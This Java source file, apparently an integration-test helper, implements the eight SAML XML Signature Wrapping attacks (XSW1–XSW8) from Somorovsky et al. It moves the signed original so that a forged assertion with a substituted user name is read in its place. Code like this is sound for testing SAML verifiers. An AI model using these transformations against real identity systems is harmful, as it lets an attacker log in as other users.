package io.keypool.it;

import java.util.function.BiConsumer;
import javax.xml.crypto.dsig.XMLSignature;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight ways of signature wrapping: a signed original is kept where only the signature's reference finds it, and
 * another element stands where the reader looks.
 *
 * <p>Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012; the numbers are
 * those of SAML Raider, its authors' tool. The first two are of signed responses, the others of signed assertions.
 */
@SuppressWarnings("ImmutableEnumChecker") // the functions hold nothing
enum SignatureWrapping {
    /** The original response inside the signature of the forged one. */
    XSW1((forged, original) -> {
        Element signature = signature(forged);
        remove(signature(original));
        signature.appendChild(original);
    }),
    /** The original response before the signature of the forged one: detached from it. */
    XSW2((forged, original) -> {
        remove(signature(original));
        forged.insertBefore(original, signature(forged));
    }),
    /** The forged assertion before the original one. */
    XSW3((forged, original) -> {
        remove(signature(forged));
        forged.getParentNode().appendChild(original);
    }),
    /** The original assertion inside the forged one. */
    XSW4((forged, original) -> {
        remove(signature(forged));
        forged.appendChild(original);
    }),
    /** The forged assertion has the signature, the original one follows without. */
    XSW5((forged, original) -> {
        remove(signature(original));
        forged.getParentNode().appendChild(original);
    }),
    /** The forged assertion has the signature, and the original one inside it. */
    XSW6((forged, original) -> {
        remove(signature(original));
        signature(forged).appendChild(original);
    }),
    /** The forged assertion is hidden in the response's Extensions, before the original one. */
    XSW7((forged, original) -> {
        Node response = forged.getParentNode();
        Element extensions = forged.getOwnerDocument().createElementNS(SamlMessage.PROTOCOL, "samlp:Extensions");
        remove(signature(forged));
        response.replaceChild(original, forged);
        response.insertBefore(extensions, original);
        extensions.appendChild(forged);
    }),
    /** The forged assertion has the signature, and the original one in an Object of that. */
    XSW8((forged, original) -> {
        Element object = forged.getOwnerDocument().createElementNS(XMLSignature.XMLNS, "ds:Object");
        remove(signature(original));
        signature(forged).appendChild(object);
        object.appendChild(original);
    });

    private final BiConsumer<Element, Element> arrangement;

    SignatureWrapping(BiConsumer<Element, Element> arrangement) {
        this.arrangement = arrangement;
    }

    boolean isOfResponses() {
        return this == XSW1 || this == XSW2;
    }

    /** @param forgedId the ID of the forged element, which may be that of the original one */
    SamlMessage wrap(SamlMessage signed, String name, String forgedName, String forgedId) {
        return signed.edit(document -> {
            Element forged = isOfResponses() ? document.getDocumentElement() : SamlMessage.assertion(document);
            Element original = (Element) forged.cloneNode(true);
            if (!forgedId.isEmpty()) {
                forged.setAttribute("ID", forgedId);
            }
            rename(document, name, forgedName);
            arrangement.accept(forged, original);
        });
    }

    private static void rename(Document document, String name, String forgedName) {
        Node nameId =
                document.getElementsByTagNameNS(SamlMessage.ASSERTION, "NameID").item(0);
        nameId.setTextContent(nameId.getTextContent().replace(name, forgedName));
    }

    private static Element signature(Element signed) {
        for (Node child = signed.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element element && element.getLocalName().equals("Signature")) {
                return element;
            }
        }
        throw new IllegalArgumentException("it is not signed");
    }

    private static void remove(Node node) {
        node.getParentNode().removeChild(node);
    }
}
